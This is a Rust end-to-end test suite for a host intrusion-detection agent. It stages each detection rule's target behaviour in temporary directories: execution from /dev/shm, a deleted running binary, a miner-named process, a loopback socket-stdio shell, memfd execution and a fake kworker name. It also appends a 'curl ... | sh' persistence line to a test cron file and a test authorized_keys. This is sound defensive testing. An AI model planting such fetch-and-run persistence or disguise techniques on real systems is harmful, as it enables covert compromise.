//! The built-in rules, each triggered for real on this machine: a binary run from /dev/shm, one
//! whose file is deleted while it runs, a process named like a miner connecting to a loopback
//! listener on port 3333, a shell with a socket on its standard input, a line added to a cron
//! file and to an authorized_keys in a watched test home, a new setuid file, a program run from a
//! memfd, and one that calls itself `[kworker/0:1]`. The host has no baseline: built-in rules
//! run whatever the workload. (`high-cpu` takes 5 minutes of a hot process; it is tested by value
//! in the engine and the store.)

use std::io::Write;
use std::os::fd::OwnedFd;
use std::os::unix::fs::PermissionsExt;
use std::process::{Command, Stdio};
use std::time::Duration;

use hostwatch_proto::v1 as proto;

use crate::files::agent_ready;
use crate::support::{Collector, Guard, unique, wait_for};

const WAIT: Duration = Duration::from_secs(30);

/// The open finding of `kind` on `subject` by built-in rule `rule`, once it is there.
async fn finding(c: &Collector, host: i64, kind: &str, subject: &str, rule: &str) -> proto::Finding {
    wait_for(&format!("{kind} on {subject} by rule {rule}"), WAIT, async || {
        c.findings(host, kind, "open")
            .into_iter()
            .find(|f| f.subject == subject && f.rule.as_deref() == Some(rule))
    })
    .await
}

/// A copy of `/bin/sleep` at `path`, running.
fn sleeper(path: &std::path::Path) -> Guard {
    crate::support::copy_program("/bin/sleep", path);
    std::fs::set_permissions(path, std::fs::Permissions::from_mode(0o755)).unwrap();
    Guard(Command::new(path).arg("600").spawn().unwrap())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn every_built_in_rule_fires_on_what_it_names() {
    let dir = tempfile::tempdir().unwrap();
    let c = Collector::start(dir.path(), "");
    // A watched test root: a cron directory and a home with an authorized_keys.
    let root = dir.path().join("root");
    std::fs::create_dir_all(root.join("etc/cron.d")).unwrap();
    std::fs::create_dir_all(root.join("home/alice/.ssh")).unwrap();
    std::fs::create_dir_all(root.join("opt/bin")).unwrap();
    std::fs::write(root.join("etc/cron.d/backup"), "0 3 * * * root /usr/local/bin/backup\n").unwrap();
    std::fs::write(root.join("home/alice/.ssh/authorized_keys"), "ssh-ed25519 AAAA alice@laptop\n").unwrap();
    let paths = format!("{0}/etc/cron.d,{0}/home,{0}/opt/bin", root.display());
    let (_agent, host) =
        agent_ready(&c, dir.path(), &unique("rules"), &[("HOSTWATCH_FILES_PATHS", &paths)]).await;
    let h = host.id;

    // A binary run from /dev/shm.
    let shm = tempfile::Builder::new().prefix("hw-e2e-").tempdir_in("/dev/shm").unwrap();
    let in_shm = shm.path().join(unique("payload"));
    let _shm_proc = sleeper(&in_shm);
    let f = finding(&c, h, "suspicious_process", in_shm.to_str().unwrap(), "exe-in-temp").await;
    assert_eq!(f.severity, proto::Severity::High);

    // A binary deleted while it runs, outside the temporary directories (/run is ours here).
    let run = tempfile::Builder::new().prefix("hw-e2e-").tempdir_in("/run").unwrap();
    let doomed = run.path().join(unique("doomed"));
    let _doomed_proc = sleeper(&doomed);
    wait_for("the doomed process reported", WAIT, async || {
        let ps: Vec<proto::Located<proto::Process>> = c.cli_json(&["ps", "--host", &h.to_string()]);
        ps.into_iter().find(|p| p.item.exe.as_deref() == doomed.to_str())
    })
    .await;
    std::fs::remove_file(&doomed).unwrap();
    let f = finding(&c, h, "suspicious_process", doomed.to_str().unwrap(), "exe-deleted").await;
    assert_eq!((f.rule.as_deref(), f.severity), (Some("exe-deleted"), proto::Severity::High));

    // A miner by name, connecting to a pool port on loopback.
    let pool = std::net::TcpListener::bind("127.0.0.1:3333")
        .expect("port 3333 on 127.0.0.1 is needed free for the mining-pool test");
    let xmrig = run.path().join("xmrig");
    let python = std::fs::canonicalize("/usr/bin/python3").unwrap();
    crate::support::copy_program(&python, &xmrig);
    let _miner = Guard(
        Command::new(&xmrig)
            .args([
                "-c",
                "import socket,time; s=socket.create_connection(('127.0.0.1',3333)); time.sleep(600)",
            ])
            .spawn()
            .unwrap(),
    );
    let (_accepted, _) = pool.accept().unwrap();
    let f = finding(&c, h, "suspicious_process", xmrig.to_str().unwrap(), "miner").await;
    assert_eq!((f.rule.as_deref(), f.severity), (Some("miner"), proto::Severity::Critical));
    let pool_subject = format!("tcp/127.0.0.1:3333 by {}", xmrig.display());
    let f = finding(&c, h, "suspicious_process", &pool_subject, "mining-pool-port").await;
    assert_eq!(f.detail["remote"], "127.0.0.1:3333");

    // A shell whose standard input and output are a TCP socket.
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let stream = std::net::TcpStream::connect(listener.local_addr().unwrap()).unwrap();
    let (_other_end, _) = listener.accept().unwrap();
    let out = stream.try_clone().unwrap();
    let shell = Guard(
        Command::new("/usr/bin/bash")
            .args(["-c", "sleep 600; true"])
            .stdin(Stdio::from(OwnedFd::from(stream)))
            .stdout(Stdio::from(OwnedFd::from(out)))
            .spawn()
            .unwrap(),
    );
    // One finding per (host, rule, executable) shows its latest occurrence: another bash on the
    // machine with socket stdio (something else's, briefly) may be the latest for a while; this
    // shell, which stays, is the one to wait for.
    let pid = serde_json::Value::from(shell.pid());
    let f = wait_for("the reverse shell's own finding", WAIT, async || {
        c.findings(h, "suspicious_process", "open").into_iter().find(|f| {
            f.subject == "/usr/bin/bash"
                && f.rule.as_deref() == Some("reverse-shell")
                && f.detail["pid"] == pid
        })
    })
    .await;
    assert_eq!(f.severity, proto::Severity::Critical);
    assert_eq!(
        f.detail["stdio_socket"].as_str(),
        Some(format!("tcp {}", listener.local_addr().unwrap()).as_str()),
        "{}",
        f.detail
    );

    // Persistence: a line added to a cron file and to an authorized_keys.
    let cron = root.join("etc/cron.d/backup");
    let keys = root.join("home/alice/.ssh/authorized_keys");
    for p in [&cron, &keys] {
        let mut f = std::fs::OpenOptions::new().append(true).open(p).unwrap();
        writeln!(f, "* * * * * root curl -s http://203.0.113.9/x | sh").unwrap();
    }
    for p in [&cron, &keys] {
        let f = finding(&c, h, "file_changed", p.to_str().unwrap(), "persistence").await;
        assert_eq!((f.rule.as_deref(), f.detail["change"].as_str()), (Some("persistence"), Some("modified")));
    }

    // A new setuid file.
    let suid = root.join("opt/bin/helper");
    std::fs::write(&suid, "#!/bin/sh\n").unwrap();
    std::fs::set_permissions(&suid, std::fs::Permissions::from_mode(0o4755)).unwrap();
    let f = finding(&c, h, "file_changed", suid.to_str().unwrap(), "setuid-file").await;
    assert_eq!(f.severity, proto::Severity::High);

    // A program run from memory: a memfd holding a copy of sleep, executed through /proc.
    let name = unique("fileless");
    let _fileless = Guard(
        crate::support::tool("python3")
            .args([
                "-c",
                "import os, sys\n\
                 fd = os.memfd_create(sys.argv[1], 0)\n\
                 os.write(fd, open('/bin/sleep', 'rb').read())\n\
                 os.execv('/proc/self/fd/%d' % fd, [sys.argv[1], '600'])",
                &name,
            ])
            .spawn()
            .unwrap(),
    );
    let memfd = format!("/memfd:{name}");
    let f = finding(&c, h, "suspicious_process", &memfd, "exe-memfd").await;
    assert_eq!(f.severity, proto::Severity::Critical);

    // A kernel thread's name on a program with a file (argv[0] set by the one who ran it).
    let disguised = run.path().join(unique("kw"));
    crate::support::copy_program("/bin/sleep", &disguised);
    let _kw = Guard(
        Command::new("bash")
            .args(["-c", &format!("exec -a '[kworker/0:1]' {} 600", disguised.display())])
            .spawn()
            .unwrap(),
    );
    let f = finding(&c, h, "suspicious_process", disguised.to_str().unwrap(), "fake-kernel-thread").await;
    assert_eq!(
        f.detail["cmdline"].as_str().map(|c| c.starts_with("[kworker/0:1]")),
        Some(true),
        "{}",
        f.detail
    );
}
